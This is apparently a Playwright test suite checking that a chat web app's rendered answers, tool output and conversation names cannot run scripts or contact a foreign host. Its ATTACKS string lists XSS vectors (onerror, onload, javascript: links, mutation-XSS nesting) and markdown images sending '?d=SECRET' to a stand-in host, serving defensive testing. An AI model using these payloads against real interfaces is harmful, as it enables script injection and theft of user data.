"""Nothing that a model, a tool, a file or a name says becomes a request, a script or an element of
its own."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from deskhand.web.app import CSP

from .conftest import answer, dismissed, say

pytestmark = pytest.mark.timeout(120)


class Elsewhere:
    """A foreign host. `asked` is what came in."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        elsewhere = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                elsewhere.asked.append(self.path)
                self.send_response(200)
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    found = Elsewhere()
    yield found
    found.close()


ATTACKS = """
![x]({url}/?d=SECRET)

![ref][a] and ![a] and [a]

[a]: {url}/ref?d=SECRET

<img src=x onerror="alert(1)"><img src="{url}/img">

<svg onload="alert(2)"><script>alert(3)</script></svg>

[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [vb](vbscript:x)

<iframe src="{url}/frame"></iframe>

<div style="background:url({url}/css)">x</div><style>@import "{url}/import";</style>

<meta http-equiv="refresh" content="0;url={url}/meta"><base href="{url}/"><link rel="stylesheet" href="{url}/link">

{url}/auto?d=SECRET <{url}/auto2>

<form action="{url}/form"><button>go</button></form><object data="{url}/object"></object>

`<img src={url}/code onerror=alert(6)>` and [<img src=x onerror=alert(7)>]({url}/label)

| <img src={url}/cell> | b |
|---|---|
| ![cell]({url}/cell2) | <a href="javascript:alert(8)">x</a> |

<details open ontoggle="alert(9)"><math><mtext><table><mglyph><style><img src=x onerror=alert(10)>
"""  # noqa: E501


def test_an_answer_cannot_fetch_or_run_anything(
    context: BrowserContext, page: Page, elsewhere: Elsewhere
) -> None:
    dialogs = dismissed(page)
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    say(page, "say " + ATTACKS.replace("{url}", elsewhere.url))
    expect(page.locator(".did")).to_be_visible()
    shown = page.locator(".answer")
    assert (
        shown.locator(
            "script, iframe, object, form, style, meta, base, link, svg, img, details, math"
        ).count()
        == 0
    )
    assert (
        shown.evaluate(
            "box => [...box.querySelectorAll('*')].flatMap(e => [...e.attributes])"
            ".filter(a => a.name.startsWith('on') || a.name === 'style').length"
        )
        == 0
    )
    hrefs = shown.locator("a").evaluate_all("all => all.map(a => a.href)")
    assert hrefs, "links stay"
    assert all(href.startswith(elsewhere.url) for href in hrefs)
    assert shown.locator("a:not([rel='noreferrer noopener'])").count() == 0
    expect(shown.locator("button.remote").first).to_contain_text(f"{elsewhere.url}/?d=SECRET")
    expect(shown.get_by_text("link removed: javascript:alert(4)")).to_be_visible()
    page.mouse.move(300, 300)
    page.reload()
    expect(page.locator(".did")).to_be_visible()
    assert (elsewhere.asked, dialogs) == ([], [])
    own = page.url.partition("/#")[0]
    assert [url for url in requests if not url.startswith(own)] == []


def test_a_picture_from_elsewhere_opens_only_when_asked(
    context: BrowserContext, page: Page, elsewhere: Elsewhere
) -> None:
    say(page, f"say ![a map]({elsewhere.url}/map.png)")
    button = page.get_by_role("button", name="External image: click to open")
    expect(button).to_be_visible()
    assert elsewhere.asked == []
    with context.expect_page() as opened:
        button.click()
    opened.value.close()
    assert elsewhere.asked[:1] == ["/map.png"]


def test_what_tools_and_names_say_stays_text(page: Page) -> None:
    dialogs = dismissed(page)
    say(page, "tool <img src=x onerror=alert(1)><script>alert(2)</script>")
    expect(page.locator(".did")).to_be_visible()
    page.locator(".tool-head").click()
    expect(page.locator(".tool-body pre").last).to_contain_text("<img src=x onerror=alert(1)>")
    assert page.locator(".turn img, .turn script").count() == 0
    entry = page.get_by_role("navigation", name="Conversations").get_by_text(
        "<img src=x onerror=alert(1)>"
    )
    expect(entry).to_be_visible()
    assert dialogs == []


@pytest.mark.parametrize("kind", ["line", "quotes", "brackets", "stars"])
def test_what_is_too_much_to_parse_is_shown_as_it_is(page: Page, kind: str) -> None:
    say(page, f"huge {kind}")
    expect(page.locator(".did")).to_be_visible()
    expect(answer(page, "the end of it")).to_be_visible()


def test_the_policy_is_exact(context: BrowserContext) -> None:
    page = context.new_page()  # one in which something may be refused
    page.goto("/")
    for path in ("/js/main.js", "/sw.js", "/api/auth/me", "/nowhere"):
        assert page.request.get(path).headers["content-security-policy"] == CSP
    host = page.url.split("/")[2]
    policy = page.request.get("/").headers["content-security-policy"]
    assert policy == f"{CSP}; font-src 'self'; frame-src {host}/frame"
    assert "script-src 'self';" in CSP
    assert "require-trusted-types-for 'script'" in CSP
    assert "unsafe" not in CSP
    refused = page.evaluate(
        "() => { try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>') } catch "
        "(e) { return e.name } }"
    )
    assert refused == "TypeError", "text must not become markup but through the policy"
